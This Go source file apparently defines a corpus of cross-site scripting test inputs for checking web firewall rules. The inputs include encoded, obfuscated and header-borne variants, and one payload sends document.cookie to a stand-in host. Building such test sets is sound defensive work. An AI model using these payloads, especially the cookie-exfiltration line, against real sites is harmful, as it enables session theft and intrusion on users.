package attack

// scripting is script in places where a page shows what somebody sent.
func scripting() group {
	return group{"xss", "Cross-site scripting", "CWE-79", []entry{
		{"script", "A script element", "CAPEC-63; CRS 941", query("q", "<script>fetch('//tw.example.invalid/?'+document.cookie)</script>")},
		{"script-source", "A script from elsewhere", "CAPEC-63; CRS 941", query("q", `<script src="https://tw.example.invalid/x.js"></script>`)},
		{"script-odd-case", "In odd capitals and with a blank before the end", "CAPEC-63; CRS 941", query("q", "<ScRiPt >confirm(7)</sCrIpT >")},
		{"attribute-break", "Leaves an attribute and brings a handler", "CAPEC-243; CRS 941", query("q", `" autofocus onfocus="confirm(7)`)},
		{"attribute-break-single", "The same with the other quotes", "CAPEC-243; CRS 941", query("q", `' onmouseover='confirm(document.domain)' x='`)},
		{"image-error", "A picture that does not load", "CAPEC-63; CRS 941", form("note", "<img src=nothing onerror=confirm(7)>")},
		{"svg-load", "A drawing that loads", "CAPEC-63; CRS 941", form("note", "<svg/onload=confirm(7)>")},
		{"svg-animate", "A drawing that begins to move", "CAPEC-63; CRS 941", form("note", `<svg><animate onbegin=confirm(7) attributeName=x dur=1s>`)},
		{"details-toggle", "A detail that opens by itself", "CAPEC-63; CRS 941", form("note", "<details open ontoggle=confirm(7)>more</details>")},
		{"video-source", "A film whose source is wrong", "CAPEC-63; CRS 941", form("note", "<video><source onerror=confirm(7)></video>")},
		{"marquee", "Text that begins to run", "CAPEC-63; CRS 941", form("note", "<marquee onstart=confirm(7)>tw</marquee>")},
		{"iframe-script", "A frame whose address is script", "CAPEC-63; CRS 941", form("note", `<iframe src="javascript:confirm(7)"></iframe>`)},
		{"iframe-srcdoc", "A frame with its page in an attribute", "CAPEC-63; CRS 941", form("note", `<iframe srcdoc="<script>confirm(7)</script>"></iframe>`)},
		{"object-data", "An object whose data is a page", "CAPEC-63; CRS 941", form("note", `<object data="data:text/html;base64,PHNjcmlwdD5jb25maXJtKDcpPC9zY3JpcHQ+"></object>`)},
		{"link-javascript", "An address that is script", "CAPEC-244; CRS 941", query("next", "javascript:confirm(document.cookie)//")},
		{"link-javascript-entities", "The same with a letter as an entity", "CAPEC-244; CRS 941", form("note", `<a href="java&#115;cript:confirm(7)">see</a>`)},
		{"link-vbscript", "An address that is Visual Basic", "CAPEC-244; CRS 941", query("next", `vbscript:MsgBox("tw")`)},
		{"base", "Moves where all relative addresses lead", "CAPEC-63; CRS 941", form("note", `<base href="https://tw.example.invalid/">`)},
		{"meta-refresh", "Sends the page elsewhere", "CAPEC-63; CRS 941", form("note", `<meta http-equiv="refresh" content="0;url=javascript:confirm(7)">`)},
		{"style-expression", "Script in a style, for old browsers", "CAPEC-63; CRS 941", form("note", `<div style="width:expression(confirm(7))">`)},
		{"form-action", "A button that posts to script", "CAPEC-63; CRS 941", form("note", `<form><button formaction="javascript:confirm(7)">ok</button></form>`)},
		{"embed", "Something embedded from elsewhere", "CAPEC-63; CRS 941", form("note", `<embed src="javascript:confirm(7)">`)},
	}}
}

// scriptingElsewhere is script in other clothes, or in other parts of a request.
func scriptingElsewhere() group {
	return group{"xss-encoded", "Cross-site scripting in disguise", "CWE-79", []entry{
		{"double-encoded", "Encoded twice", "CAPEC-120; CRS 941", get("/search?q=%253Cscript%253Econfirm(7)%253C%252Fscript%253E")},
		{"html-entities", "Written in entities, for a page that decodes", "CAPEC-267; CRS 941", query("q", "&lt;script&gt;confirm(7)&lt;/script&gt;")},
		{"numeric-entities", "The same in numbers", "CAPEC-267; CRS 941", query("q", "&#60;script&#62;confirm(7)&#60;/script&#62;")},
		{"unicode-escapes", "Written in escapes of JavaScript", "CAPEC-267; CRS 941", document(`{"note":"\u003cscript\u003econfirm(7)\u003c/script\u003e"}`)},
		{"null-byte", "A null byte within the word, that some parsers pass over", "CAPEC-52; CRS 920, 941", get("/search?q=%3Cscr%00ipt%3Econfirm(7)%3C/script%3E")},
		{"js-fuck", "Script made of six signs only", "CAPEC-63; CRS 941360", query("q", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]]+[])]")},
		{"template-literal", "A call without brackets", "CAPEC-63; CRS 941", query("q", "<img src=x onerror=confirm`7`>")},
		{"constructor", "A function made from text", "CAPEC-63; CRS 941", query("q", "'-[].constructor.constructor('confirm(7)')()-'")},
		{"angular", "An expression for a page's template", "CAPEC-242; CRS 941380", query("q", "{{constructor.constructor('confirm(7)')()}}")},
		{"user-agent", "In the browser's name, that a log viewer shows", "CAPEC-63; CRS 941", get("/").with("User-Agent", "Mozilla/5.0 <script>confirm(7)</script>")},
		{"referrer", "In the referrer, likewise", "CAPEC-63; CRS 941", get("/").with("Referer", "https://search.example/?q=<script>confirm(7)</script>")},
		{"cookie", "In a cookie", "CAPEC-63; CRS 941", get("/").with("Cookie", "theme=<script>confirm(7)</script>")},
		{"json-body", "In a JSON document", "CAPEC-63; CRS 941", document(`{"title":"<img src=x onerror=confirm(7)>"}`)},
		{"xml-body", "In an XML document", "CAPEC-63; CRS 941", post("application/xml", `<note><title><![CDATA[<script>confirm(7)</script>]]></title></note>`)},
		{"parameter-name", "In a field's name", "CAPEC-63; CRS 941", query("<script>confirm(7)</script>", "1")},
		{"file-name", "In the name of a file", "CAPEC-63; CRS 941", upload("<img src=x onerror=confirm(7)>.png", "image/png", "tw")},
	}}
}
